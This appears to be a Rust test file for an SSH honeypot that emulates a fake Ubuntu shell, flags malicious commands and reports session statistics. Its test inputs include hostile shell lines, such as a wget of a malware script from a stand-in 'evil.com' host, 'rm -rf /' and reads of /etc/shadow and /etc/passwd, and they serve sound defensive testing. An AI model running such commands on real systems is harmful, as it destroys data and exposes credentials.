use honeytrap_deception::ssh_interaction::command_delay_ms;
use honeytrap_deception::SshInteractionHandler;

#[test]
fn test_ssh_handler_creation() {
    let handler = SshInteractionHandler::new("test-session".to_string());
    assert_eq!(handler.username(), "admin");
}

#[test]
fn test_execute_whoami() {
    let mut handler = SshInteractionHandler::new("test".to_string());
    let output = handler.execute_command("whoami");
    assert!(output.contains("admin"));
}

#[test]
fn test_execute_pwd() {
    let mut handler = SshInteractionHandler::new("test".to_string());
    let output = handler.execute_command("pwd");
    assert!(output.contains("/home/admin"));
}

#[test]
fn test_malicious_command_detection() {
    let mut handler = SshInteractionHandler::new("test".to_string());
    let _output = handler.execute_command("wget http://evil.com/malware.sh");
    let malicious = handler.history().iter().filter(|c| c.is_malicious).count();
    assert!(malicious > 0);
}

#[test]
fn whoami_pwd_shadow_session() {
    let mut handler = SshInteractionHandler::new("s1".to_string());
    assert_eq!(handler.execute_command("whoami"), "admin\n");
    assert_eq!(handler.execute_command("pwd"), "/home/admin\n");
    let shadow = handler.execute_command("cat /etc/shadow");
    assert_eq!(shadow, "cat: /etc/shadow: Permission denied\n");
    assert_eq!(handler.history().len(), 3);
    assert_eq!(handler.history().iter().filter(|c| c.is_malicious).count(), 0);
}

#[test]
fn prompt_follows_directory() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    assert_eq!(handler.get_prompt(), "admin@ubuntu-server:/home/admin$ ");
    assert_eq!(handler.execute_command("cd /var/log"), "");
    assert_eq!(handler.get_prompt(), "admin@ubuntu-server:/var/log$ ");
    assert_eq!(handler.execute_command("cd"), "");
    assert_eq!(handler.get_prompt(), "admin@ubuntu-server:/home/admin$ ");
    assert_eq!(handler.execute_command("cd /nope"), "cd: /nope: No such file or directory\n");
}

#[test]
fn ls_short_and_long_forms() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    assert_eq!(handler.execute_command("ls"), ".bashrc  .bash_history  .ssh  \n");
    assert_eq!(
        handler.execute_command("ls /etc -l"),
        "-rw-r--r-- 1 admin admin     1024 Dec  1 10:00 passwd\n\
         -rw------- 1 admin admin      512 Dec  1 10:00 shadow\n\
         -rw-r--r-- 1 admin admin      156 Dec  1 10:00 hosts\n"
    );
    assert_eq!(
        handler.execute_command("ls -la"),
        "ls: cannot access '/home/admin/-la': No such file or directory\n"
    );
    assert_eq!(
        handler.execute_command("ls /missing"),
        "ls: cannot access '/missing': No such file or directory\n"
    );
}

#[test]
fn sensitive_commands_fail_believably() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    assert_eq!(
        handler.execute_command("curl http://x/y.sh"),
        "curl: Connecting to remote server...\nConnection timed out\n"
    );
    assert_eq!(handler.execute_command("chmod +x y.sh"), "chmod: Operation not permitted\n");
    assert_eq!(handler.execute_command("rm -rf /"), "rm: cannot remove: Operation not permitted\n");
    assert!(handler.execute_command("cat /etc/passwd").starts_with("root:x:0:0"));
}

#[test]
fn builtins_and_unknown_commands() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    assert_eq!(handler.execute_command("echo  hello   world"), "hello world\n");
    assert_eq!(handler.execute_command("uname"), "Linux\n");
    assert!(handler.execute_command("uname -a").starts_with("Linux ubuntu-server 5.4.0"));
    assert_eq!(handler.execute_command("hostname"), "ubuntu-server\n");
    assert!(handler.execute_command("id").starts_with("uid=1000(admin)"));
    assert!(handler.execute_command("ip a").starts_with("eth0:"));
    assert!(handler.execute_command("ps").contains("bash"));
    assert_eq!(handler.execute_command("nmap"), "nmap: command not found\n");
    assert_eq!(handler.execute_command(""), "");
    assert_eq!(handler.execute_command("cat"), "cat: missing file operand\n");
    assert_eq!(handler.execute_command("exit"), "logout\n");
}

#[test]
fn history_lists_every_line_numbered() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    handler.execute_command("ls");
    handler.execute_command("  pwd ");
    assert_eq!(handler.execute_command("history"), "  1  ls\n  2  pwd\n  3  history\n");
}

#[test]
fn stats_report() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    handler.execute_command("ls");
    handler.execute_command("wget http://x");
    handler.execute_command("ls");
    assert_eq!(
        handler.get_stats(),
        "Session Statistics:\nTotal Commands: 3\nMalicious Commands: 1\nUnique Commands: 2\nMost Common: Some(\"ls\")\n"
    );
}

#[test]
fn banner_auth_and_delays() {
    let mut handler = SshInteractionHandler::new("s".to_string());
    assert_eq!(handler.send_banner(), "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5");
    assert!(handler.authenticate("root", "toor"));
    handler.execute_command("wget http://x");
    assert_eq!(command_delay_ms(handler.history().last().unwrap()), 1100);
    handler.execute_command("rm -fr /tmp");
    assert_eq!(command_delay_ms(handler.history().last().unwrap()), 600);
    handler.execute_command("ls");
    assert_eq!(command_delay_ms(handler.history().last().unwrap()), 100);
}
